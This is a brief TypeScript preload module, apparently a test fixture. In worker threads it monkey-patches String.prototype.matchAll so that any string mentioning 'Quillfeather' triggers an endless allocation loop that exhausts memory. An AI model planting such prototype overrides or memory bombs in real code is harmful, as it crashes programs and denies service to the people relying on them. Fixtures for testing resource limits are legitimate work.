/* Loaded before a program (`node --import`): a thread that reads a draft about Quillfeather takes all the memory it can have. */
import { isMainThread } from 'node:worker_threads';

if (!isMainThread) {
  const matchAll = Object.getOwnPropertyDescriptor(String.prototype, 'matchAll')!.value as typeof String.prototype.matchAll;
  String.prototype.matchAll = function (this: string, expression: RegExp) {
    const hoard: number[][] = [];
    while (this.includes('Quillfeather')) hoard.push(Array.from({ length: 100_000 }, () => 0.5));
    return matchAll.call(this, expression);
  };
}
